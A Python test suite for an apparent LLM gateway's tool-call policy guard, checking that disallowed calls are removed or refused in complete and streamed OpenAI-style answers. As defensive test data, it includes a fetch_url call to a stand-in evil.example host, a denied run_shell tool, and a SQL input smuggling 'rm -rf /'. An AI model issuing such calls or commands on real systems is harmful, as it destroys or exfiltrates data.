"""Tool calls in the model's answer, checked against the policy: complete and streamed.

Streams come from the project's OpenAI-wire simulator; what the client finally sees
is read back through the openai SDK's own stream accumulation.
"""

from __future__ import annotations

import copy
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

import httpx
import openai
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openai.types.responses import Response

from bastion.errors import PermissionDenied
from bastion.model import Principal
from bastion.model.controls import NOT_OFFERED_RULE, ToolRefusal
from bastion.model.facts import CallFacts
from bastion.pipeline.stream import StreamEvent, StreamRelay
from bastion.pipeline.stream_hooks import ReplaceTextHook
from bastion.pipeline.tool_call_stream import (
    ChatToolCallHook,
    ResponsesToolCallHook,
    tool_call_hook,
)
from bastion.pipeline.tool_calls import ToolCallGuard, enforce_json, refusal_text
from bastion.policy.loader import parse_policy
from bastion.testing.answer import Answer, ToolCall
from bastion.testing.chat import render_chat
from bastion.testing.responses import render_responses
from bastion.wire.sse import SseParser

MODEL = "gpt-4o-mini"
ARG_RULE = "tools.egress.url"
DENY_RULE = "tools.deny.shell"
CAP_RULE = "tools.max_calls"
OFFERED = frozenset({"get_weather", "fetch_url", "run_shell"})

WEATHER = ToolCall("get_weather", '{"city": "Paris", "unit": "celsius"}')
WEATHER_2 = ToolCall("get_weather", '{"city": "Lyon", "unit": "kelvin"}')
# refused arguments carry a letter found nowhere else in a stream (ids are ASCII), so a
# leaked piece shows in the bytes
MARK = "ж".encode()
EVIL = ToolCall("fetch_url", '{"url": "https://жж.evil.example/ж?d=жжжж&e=жж"}')
SHELL = ToolCall("run_shell", '{"cmd": "ls"}')
UNOFFERED = ToolCall("delete_all", '{"really": "жyesж"}')


@dataclass
class Plan:
    """A ToolPlan for tests: ``run_shell`` is denied, URLs must not leave to evil.example."""

    on_disallowed_call: Literal["remove", "refuse"] = "remove"
    max_calls: int | None = None
    on_disallowed_offer: Literal["strip", "refuse"] = "strip"
    cap_rule: str = CAP_RULE
    seen: list[tuple[str, str]] = field(default_factory=list)

    def offer(self, name: str) -> ToolRefusal | None:
        return None

    def call(self, name: str, arguments: str) -> ToolRefusal | None:
        self.seen.append((name, arguments))
        if name == "run_shell":
            return ToolRefusal(name, DENY_RULE, "the tool is not allowed")
        if "evil.example" in arguments:
            return ToolRefusal(name, ARG_RULE, "a URL outside the allow-list")
        return None


def guard(mode: Literal["remove", "refuse"] = "remove", cap: int | None = None) -> ToolCallGuard:
    return ToolCallGuard(Plan(on_disallowed_call=mode, max_calls=cap), OFFERED)


def answer(*calls: ToolCall) -> Answer:
    return Answer(None, tuple(calls))


def chat_json(*calls: ToolCall, n: int = 1) -> dict[str, Any]:
    rendered = render_chat({"n": n}, MODEL, answer(*calls), stream=False, chunk_chars=4)
    loaded: dict[str, Any] = orjson.loads(rendered.frames[0])
    return loaded


def responses_json(*calls: ToolCall) -> dict[str, Any]:
    rendered = render_responses({}, MODEL, answer(*calls), stream=False, chunk_chars=4)
    loaded: dict[str, Any] = orjson.loads(rendered.frames[0])
    return loaded


def chat_frames(*calls: ToolCall, chunk_chars: int = 4, **body: Any) -> list[bytes]:
    return list(
        render_chat(body, MODEL, answer(*calls), stream=True, chunk_chars=chunk_chars).frames
    )


def responses_frames(*calls: ToolCall, chunk_chars: int = 4) -> list[bytes]:
    rendered = render_responses({}, MODEL, answer(*calls), stream=True, chunk_chars=chunk_chars)
    return list(rendered.frames)


async def source(frames: Sequence[bytes]) -> AsyncIterator[bytes]:
    for frame in frames:
        yield frame


async def relay(
    frames: Sequence[bytes], the_guard: ToolCallGuard, dialect: Literal["chat", "responses"]
) -> bytes:
    hooks = [tool_call_hook(the_guard, dialect)]
    return b"".join(
        [out async for out in StreamRelay(hooks, dialect=dialect).relay(source(frames))]
    )


async def relay_until_error(
    frames: Sequence[bytes], the_guard: ToolCallGuard, dialect: Literal["chat", "responses"]
) -> tuple[bytes, PermissionDenied]:
    sent: list[bytes] = []
    stream = StreamRelay([tool_call_hook(the_guard, dialect)], dialect=dialect)
    with pytest.raises(PermissionDenied) as raised:
        async for out in stream.relay(source(frames)):
            sent.append(out)
    return b"".join(sent), raised.value


def data_events(raw: bytes) -> list[dict[str, Any]]:
    parser = SseParser()
    events = parser.feed(raw) + parser.finish()
    return [orjson.loads(event.data) for event in events if not event.data.startswith("[DONE]")]


def arguments_by_index(raw: bytes, choice: int = 0) -> dict[int, str]:
    calls: dict[int, str] = {}
    for chunk in data_events(raw):
        for item in chunk["choices"]:
            if item["index"] != choice:
                continue
            for entry in item["delta"].get("tool_calls") or ():
                calls[entry["index"]] = calls.get(entry["index"], "") + entry["function"].get(
                    "arguments", ""
                )
    return calls


def sdk_client(raw: bytes) -> openai.OpenAI:
    """An openai client whose every request is answered with the stream ``raw``."""

    def answer_with(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, headers={"content-type": "text/event-stream"}, content=raw)

    http = httpx.Client(transport=httpx.MockTransport(answer_with))
    return openai.OpenAI(api_key="bst_test", base_url="http://bastion.test/v1", http_client=http)


def sdk_chat(raw: bytes) -> Any:
    client = sdk_client(raw)
    with client.chat.completions.stream(
        model=MODEL, messages=[{"role": "user", "content": "hi"}]
    ) as stream:
        for _ in stream:
            pass
        return stream.get_final_completion()


def sdk_responses(raw: bytes) -> Any:
    client = sdk_client(raw)
    with client.responses.stream(model=MODEL, input="hi") as stream:
        for _ in stream:
            pass
        return stream.get_final_response()


# --- complete answers -------------------------------------------------------------------


def test_chat_json_removes_a_refused_call_and_keeps_the_others() -> None:
    payload = chat_json(WEATHER, EVIL, WEATHER_2)
    refusals = enforce_json(payload, guard())
    assert [(r.tool, r.rule) for r in refusals] == [("fetch_url", ARG_RULE)]
    choice = payload["choices"][0]
    calls = choice["message"]["tool_calls"]
    assert [c["function"]["arguments"] for c in calls] == [WEATHER.arguments, WEATHER_2.arguments]
    assert choice["finish_reason"] == "tool_calls"


def test_chat_json_with_every_call_refused_answers_in_text_with_stop() -> None:
    payload = chat_json(EVIL, SHELL)
    the_guard = guard()
    enforce_json(payload, the_guard)
    choice = payload["choices"][0]
    assert "tool_calls" not in choice["message"]
    assert choice["message"]["content"] == (
        f"[tool call fetch_url refused by policy rule {ARG_RULE}] "
        f"[tool call run_shell refused by policy rule {DENY_RULE}]"
    )
    assert choice["finish_reason"] == "stop"
    assert the_guard.rules == (ARG_RULE, DENY_RULE)
    openai.types.chat.ChatCompletion.model_validate(payload)


def test_chat_json_refuse_mode_raises_policy_violation_naming_tool_and_rule() -> None:
    payload = chat_json(WEATHER, EVIL)
    with pytest.raises(PermissionDenied) as raised:
        enforce_json(payload, guard("refuse"))
    error = raised.value
    assert error.status == 403 and error.code == "policy_violation"
    assert "fetch_url" in error.message and ARG_RULE in error.message
    assert "evil" not in error.message  # the arguments are never echoed
    assert error.bastion == {"decision": "block", "rules": [ARG_RULE], "tools": ["fetch_url"]}


def test_chat_json_cap_counts_allowed_calls_per_choice() -> None:
    payload = chat_json(WEATHER, EVIL, WEATHER_2, WEATHER, n=2)
    refusals = enforce_json(payload, guard(cap=2))
    for choice in payload["choices"]:
        arguments = [c["function"]["arguments"] for c in choice["message"]["tool_calls"]]
        assert arguments == [WEATHER.arguments, WEATHER_2.arguments]
    assert [r.rule for r in refusals] == [ARG_RULE, CAP_RULE] * 2


def test_chat_json_refuses_a_tool_the_request_did_not_offer_without_asking_the_plan() -> None:
    payload = chat_json(UNOFFERED)
    the_guard = guard()
    enforce_json(payload, the_guard)
    assert payload["choices"][0]["message"]["content"] == (
        f"[tool call delete_all refused by policy rule {NOT_OFFERED_RULE}]"
    )
    assert the_guard.plan.seen == []  # type: ignore[attr-defined]


def test_chat_json_legacy_function_call_is_checked_too() -> None:
    payload = chat_json()
    message = payload["choices"][0]["message"]
    message["function_call"] = {"name": "run_shell", "arguments": '{"cmd": "rm"}'}
    payload["choices"][0]["finish_reason"] = "function_call"
    enforce_json(payload, guard())
    assert "function_call" not in message
    assert message["content"].endswith(f"[tool call run_shell refused by policy rule {DENY_RULE}]")
    assert payload["choices"][0]["finish_reason"] == "stop"


def test_chat_json_text_before_refused_calls_is_kept() -> None:
    payload = chat_json(SHELL)
    payload["choices"][0]["message"]["content"] = "Let me look."
    enforce_json(payload, guard())
    assert payload["choices"][0]["message"]["content"] == (
        f"Let me look. [tool call run_shell refused by policy rule {DENY_RULE}]"
    )


def test_an_answer_without_refusals_is_left_alone() -> None:
    payload = chat_json(WEATHER, WEATHER_2)
    before = copy.deepcopy(payload)
    assert enforce_json(payload, guard()) == []
    assert payload == before


def test_responses_json_removes_refused_items() -> None:
    payload = responses_json(EVIL, WEATHER)
    enforce_json(payload, guard())
    assert [(i["type"], i["name"]) for i in payload["output"]] == [("function_call", "get_weather")]


def test_responses_json_with_every_call_refused_gets_an_assistant_message() -> None:
    payload = responses_json(EVIL, UNOFFERED)
    enforce_json(payload, guard())
    [message] = payload["output"]
    text = (
        f"[tool call fetch_url refused by policy rule {ARG_RULE}] "
        f"[tool call delete_all refused by policy rule {NOT_OFFERED_RULE}]"
    )
    assert message["type"] == "message" and message["role"] == "assistant"
    assert message["status"] == "completed" and message["id"].startswith("msg_")
    assert message["content"] == [
        {"type": "output_text", "annotations": [], "logprobs": [], "text": text}
    ]
    assert Response.model_validate(payload).output_text == text


def test_responses_json_refuse_mode_raises() -> None:
    with pytest.raises(PermissionDenied) as raised:
        enforce_json(responses_json(WEATHER, SHELL), guard("refuse"))
    assert raised.value.bastion == {
        "decision": "block",
        "rules": [DENY_RULE],
        "tools": ["run_shell"],
    }


def test_responses_json_cap() -> None:
    payload = responses_json(WEATHER, WEATHER_2, WEATHER)
    refusals = enforce_json(payload, guard(cap=2))
    assert len(payload["output"]) == 2 and [r.rule for r in refusals] == [CAP_RULE]


# --- chat streams -----------------------------------------------------------------------


async def test_a_stream_without_tool_calls_passes_byte_for_byte() -> None:
    frames = list(
        render_chat(
            {}, MODEL, Answer("Hello there, how are you?"), stream=True, chunk_chars=4
        ).frames
    )
    assert await relay(frames, guard(), "chat") == b"".join(frames)


async def test_allowed_calls_pass_byte_for_byte() -> None:
    frames = chat_frames(WEATHER, WEATHER_2, chunk_chars=3, stream_options={"include_usage": True})
    assert await relay(frames, guard(), "chat") == b"".join(frames)


async def test_a_call_refused_by_its_arguments_never_reaches_the_client() -> None:
    frames = chat_frames(WEATHER, EVIL, WEATHER_2, chunk_chars=3)
    out = await relay(frames, guard(), "chat")
    assert MARK not in out and b'fetch_url"' not in out
    assert arguments_by_index(out) == {0: WEATHER.arguments, 1: WEATHER_2.arguments}
    assert f": bastion tool_call_refused=fetch_url rule={ARG_RULE}\n\n".encode() in out
    final = sdk_chat(out)
    calls = final.choices[0].message.tool_calls
    assert [c.function.arguments for c in calls] == [WEATHER.arguments, WEATHER_2.arguments]
    assert final.choices[0].finish_reason == "tool_calls"


async def test_a_first_refused_call_keeps_the_role_and_renumbers_the_rest() -> None:
    frames = chat_frames(SHELL, WEATHER, chunk_chars=5)
    out = await relay(frames, guard(), "chat")
    chunks = data_events(out)
    assert chunks[0]["choices"][0]["delta"] == {
        "role": "assistant",
        "content": None,
        "refusal": None,
    }
    assert arguments_by_index(out) == {0: WEATHER.arguments}
    message = sdk_chat(out).choices[0].message
    assert message.role == "assistant" and len(message.tool_calls) == 1


async def test_every_call_refused_becomes_a_comment_and_text_with_stop() -> None:
    frames = chat_frames(EVIL, UNOFFERED, chunk_chars=4)
    out = await relay(frames, guard(), "chat")
    text = refusal_text(
        [
            ToolRefusal("fetch_url", ARG_RULE, ""),
            ToolRefusal("delete_all", NOT_OFFERED_RULE, ""),
        ]
    )
    assert MARK not in out and b'delete_all"' not in out
    assert f": bastion tool_call_refused=delete_all rule={NOT_OFFERED_RULE}".encode() in out
    chunks = data_events(out)
    assert [c["choices"][0]["delta"].get("content") for c in chunks[-2:]] == [text, None]
    assert chunks[-1]["choices"][0]["finish_reason"] == "stop"
    final = sdk_chat(out)
    assert final.choices[0].message.content == text
    assert final.choices[0].message.tool_calls is None
    assert final.choices[0].finish_reason == "stop"


async def test_a_call_of_a_tool_not_offered_is_dropped_at_its_first_delta() -> None:
    frames = chat_frames(UNOFFERED, chunk_chars=4)
    hook = ChatToolCallHook(guard())
    relay_ = StreamRelay([hook])
    first = [out async for out in relay_.relay(source(frames[:1]))]
    # the opening delta went out at once, without the call
    assert data_events(b"".join(first))[0]["choices"][0]["delta"] == {
        "role": "assistant",
        "content": None,
        "refusal": None,
    }


async def test_interleaved_choices_are_decided_each_on_its_own() -> None:
    allowed = chat_frames(WEATHER, WEATHER_2, chunk_chars=3)
    refused = chat_frames(EVIL, chunk_chars=3)
    out = await relay(interleave(allowed, refused), guard(), "chat")
    assert MARK not in out
    final = sdk_chat(out)
    first, second = final.choices
    assert [c.function.arguments for c in first.message.tool_calls] == [
        WEATHER.arguments,
        WEATHER_2.arguments,
    ]
    assert first.finish_reason == "tool_calls"
    assert second.message.content == f"[tool call fetch_url refused by policy rule {ARG_RULE}]"
    assert second.message.tool_calls is None and second.finish_reason == "stop"


async def test_refuse_mode_ends_the_stream_before_any_argument_byte_of_the_call() -> None:
    frames = chat_frames(WEATHER, EVIL, chunk_chars=3)
    sent, error = await relay_until_error(frames, guard("refuse"), "chat")
    assert MARK not in sent
    assert error.bastion == {"decision": "block", "rules": [ARG_RULE], "tools": ["fetch_url"]}


async def test_refuse_mode_stops_an_unoffered_call_at_its_name() -> None:
    frames = chat_frames(UNOFFERED, chunk_chars=3)
    sent, error = await relay_until_error(frames, guard("refuse"), "chat")
    assert sent == b"" and error.bastion is not None
    assert error.bastion["rules"] == [NOT_OFFERED_RULE]


async def test_stream_cap_matches_the_complete_answer() -> None:
    frames = chat_frames(WEATHER, SHELL, WEATHER_2, WEATHER, chunk_chars=4)
    out = await relay(frames, guard(cap=2), "chat")
    assert arguments_by_index(out) == {0: WEATHER.arguments, 1: WEATHER_2.arguments}


async def test_text_before_refused_calls_passes_at_once_and_the_refusal_follows_it() -> None:
    frames = chat_frames(SHELL, chunk_chars=4)
    opening = orjson.loads(frames[0][len(b"data: ") :])
    text_chunk = copy.deepcopy(opening)
    text_chunk["choices"][0]["delta"] = {"role": "assistant", "content": "Let me look."}
    text_frame = b"data: " + orjson.dumps(text_chunk) + b"\n\n"
    hook = ChatToolCallHook(guard())
    first = [out async for out in StreamRelay([hook]).relay(source([text_frame]))]
    assert first == [text_frame]
    out = await relay([text_frame, *frames], guard(), "chat")
    assert sdk_chat(out).choices[0].message.content == (
        f"Let me look. [tool call run_shell refused by policy rule {DENY_RULE}]"
    )


async def test_a_complete_call_is_released_when_the_next_call_starts() -> None:
    frames = chat_frames(WEATHER, EVIL, chunk_chars=3)
    second_starts = next(i for i, f in enumerate(frames) if b"fetch_url" in f)
    hook = ChatToolCallHook(guard())
    sent = [
        out.encode()
        for frame in frames[: second_starts + 1]
        for sse in SseParser().feed(frame)
        for out in hook.on_event(StreamEvent(sse))
    ]
    assert arguments_by_index(b"".join(sent)) == {0: WEATHER.arguments}


async def test_a_streamed_legacy_function_call_is_checked_too() -> None:
    frames = []
    for frame in chat_frames(SHELL, chunk_chars=3)[:-1]:
        chunk = orjson.loads(frame[len(b"data: ") :])
        choice = chunk["choices"][0]
        entries = choice["delta"].pop("tool_calls", None)
        if entries:
            function = entries[0]["function"]
            choice["delta"]["function_call"] = function
        if choice["finish_reason"] == "tool_calls":
            choice["finish_reason"] = "function_call"
        frames.append(b"data: " + orjson.dumps(chunk) + b"\n\n")
    out = await relay([*frames, b"data: [DONE]\n\n"], guard(), "chat")
    assert not any("function_call" in c["choices"][0]["delta"] for c in data_events(out))
    final = sdk_chat(out).choices[0]
    assert final.message.content == f"[tool call run_shell refused by policy rule {DENY_RULE}]"
    assert final.finish_reason == "stop"


async def test_after_restoration_the_check_sees_the_arguments_the_client_gets() -> None:
    placeholder = "<URL_1a2b3c4d>"
    model_call = ToolCall("fetch_url", orjson.dumps({"url": placeholder}).decode())
    frames = chat_frames(WEATHER, model_call, chunk_chars=3)
    restore = ReplaceTextHook({placeholder: "https://жж.evil.example/"})
    stream = StreamRelay([restore, ChatToolCallHook(guard())])
    out = b"".join([chunk async for chunk in stream.relay(source(frames))])
    assert MARK not in out and b"URL_" not in out
    assert arguments_by_index(out) == {0: WEATHER.arguments}


def interleave(first: list[bytes], second: list[bytes]) -> list[bytes]:
    """Two simulated one-choice streams as one stream with ``n=2`` (choice 1 = second)."""
    done = b"data: [DONE]\n\n"
    one = [f for f in first if f != done]
    two = []
    for frame in second:
        if frame == done:
            continue
        chunk = orjson.loads(frame[len(b"data: ") :])
        chunk["choices"][0]["index"] = 1
        chunk["id"] = orjson.loads(one[0][len(b"data: ") :])["id"]
        two.append(b"data: " + orjson.dumps(chunk) + b"\n\n")
    merged: list[bytes] = []
    for position in range(max(len(one), len(two))):
        merged += one[position : position + 1] + two[position : position + 1]
    return [*merged, done]


CALLS = st.sampled_from([WEATHER, WEATHER_2, EVIL, SHELL, UNOFFERED])


@settings(max_examples=60, deadline=None)
@given(
    calls=st.lists(CALLS, min_size=1, max_size=5),
    chunk_chars=st.integers(min_value=1, max_value=9),
    cap=st.one_of(st.none(), st.integers(min_value=0, max_value=3)),
)
def test_the_streamed_answer_the_sdk_builds_equals_the_enforced_complete_answer(
    calls: list[ToolCall], chunk_chars: int, cap: int | None
) -> None:
    import asyncio

    complete = chat_json(*calls)
    enforce_json(complete, guard(cap=cap))
    out = asyncio.run(relay(chat_frames(*calls, chunk_chars=chunk_chars), guard(cap=cap), "chat"))
    streamed = sdk_chat(out).choices[0]
    expected = complete["choices"][0]
    assert streamed.finish_reason == expected["finish_reason"]
    assert streamed.message.content == expected["message"]["content"]
    expected_calls = expected["message"].get("tool_calls") or []
    got = streamed.message.tool_calls or []
    assert [(c.function.name, c.function.arguments) for c in got] == [
        (c["function"]["name"], c["function"]["arguments"]) for c in expected_calls
    ]


# --- Responses streams ------------------------------------------------------------------


async def test_responses_allowed_calls_pass_byte_for_byte() -> None:
    frames = responses_frames(WEATHER, WEATHER_2, chunk_chars=3)
    assert await relay(frames, guard(), "responses") == b"".join(frames)


async def test_responses_refused_item_is_dropped_and_the_rest_renumbered() -> None:
    frames = responses_frames(WEATHER, EVIL, WEATHER_2, chunk_chars=3)
    out = await relay(frames, guard(), "responses")
    assert MARK not in out
    events = data_events(out)
    assert [e["sequence_number"] for e in events] == list(range(len(events)))
    indices = sorted({e["output_index"] for e in events if "output_index" in e})
    assert indices == [0, 1]
    assert f": bastion tool_call_refused=fetch_url rule={ARG_RULE}".encode() in out
    final = sdk_responses(out)
    assert [(i.name, i.arguments) for i in final.output] == [
        ("get_weather", WEATHER.arguments),
        ("get_weather", WEATHER_2.arguments),
    ]


class CommentEveryEvent:
    """An earlier hook that puts a comment before each event (as response-side actions do)."""

    def on_event(self, event: StreamEvent) -> Sequence[StreamEvent]:
        return (StreamEvent.make_comment("bastion earlier=hook"), event)

    def on_end(self) -> Sequence[StreamEvent]:
        return ()


async def test_responses_sequence_numbers_stay_contiguous_after_comments() -> None:
    frames = responses_frames(EVIL, WEATHER, chunk_chars=3)
    hooks = [CommentEveryEvent(), ResponsesToolCallHook(guard())]
    stream = StreamRelay(hooks, dialect="responses")
    out = b"".join([chunk async for chunk in stream.relay(source(frames))])
    events = data_events(out)
    assert [e["sequence_number"] for e in events] == list(range(len(events)))
    assert [i.name for i in sdk_responses(out).output] == ["get_weather"]


async def test_responses_every_call_refused_streams_an_assistant_message() -> None:
    frames = responses_frames(EVIL, SHELL, chunk_chars=4)
    out = await relay(frames, guard(), "responses")
    assert MARK not in out
    text = (
        f"[tool call fetch_url refused by policy rule {ARG_RULE}] "
        f"[tool call run_shell refused by policy rule {DENY_RULE}]"
    )
    events = data_events(out)
    assert [e["type"] for e in events] == [
        "response.created",
        "response.in_progress",
        "response.output_item.added",
        "response.content_part.added",
        "response.output_text.delta",
        "response.output_text.done",
        "response.content_part.done",
        "response.output_item.done",
        "response.completed",
    ]
    assert [e["sequence_number"] for e in events] == list(range(len(events)))
    final = sdk_responses(out)
    assert final.output_text == text
    [message] = final.output
    assert message.type == "message" and message.status == "completed"
    assert Response.model_validate(events[-1]["response"]).output_text == text


async def test_responses_unoffered_call_is_dropped_at_its_added_event() -> None:
    frames = responses_frames(UNOFFERED, WEATHER, chunk_chars=4)
    out = await relay(frames, guard(), "responses")
    assert b'delete_all"' not in out and MARK not in out
    final = sdk_responses(out)
    assert [i.name for i in final.output] == ["get_weather"]


async def test_responses_refuse_mode_fails_before_any_argument_byte() -> None:
    frames = responses_frames(WEATHER, EVIL, chunk_chars=3)
    sent, error = await relay_until_error(frames, guard("refuse"), "responses")
    assert MARK not in sent
    assert error.bastion == {"decision": "block", "rules": [ARG_RULE], "tools": ["fetch_url"]}


async def test_responses_item_listed_only_in_the_terminal_event_is_checked_there() -> None:
    frames = responses_frames(WEATHER, chunk_chars=4)
    terminal = orjson.loads(frames[-1].split(b"data: ", 1)[1])
    extra = copy.deepcopy(terminal["response"]["output"][0])
    extra.update(call_id="call_only_here", name="run_shell", arguments='{"cmd": "ls"}')
    terminal["response"]["output"].append(extra)
    frames[-1] = b"event: response.completed\ndata: " + orjson.dumps(terminal) + b"\n\n"
    the_guard = guard()
    out = await relay(frames, the_guard, "responses")
    assert [i.name for i in sdk_responses(out).output] == ["get_weather"]
    assert the_guard.rules == (DENY_RULE,)


async def test_responses_hook_of_the_factory() -> None:
    assert isinstance(tool_call_hook(guard(), "responses"), ResponsesToolCallHook)
    assert isinstance(tool_call_hook(guard(), "chat"), ChatToolCallHook)


def test_a_custom_tools_free_text_input_is_checked_as_the_input_argument() -> None:
    """Custom tools write free text, not JSON: a real policy constrains it as ``input``."""
    policy = parse_policy(
        "name: p\ntools:\n  constraints:\n    - id: tools.sql\n      tool: run_sql\n"
        "      arguments: {input: {no_shell: true, max_length: 40}}\n",
        "p.yaml",
        frozenset(),
    )
    plan = policy.decide(CallFacts(Principal(key_id="k", name="k"), "responses", "m")).tools
    assert plan is not None

    def item(text: str) -> dict[str, Any]:
        return {"type": "custom_tool_call", "call_id": "c", "name": "run_sql", "input": text}

    fine = {"output": [item("select 1")]}
    assert enforce_json(fine, ToolCallGuard(plan, frozenset({"run_sql"}))) == []
    bad = {"output": [item("select 1; rm -rf /")]}
    (refusal,) = enforce_json(bad, ToolCallGuard(plan, frozenset({"run_sql"})))
    assert refusal.rule == "tools.sql" and bad["output"][0]["type"] == "message"
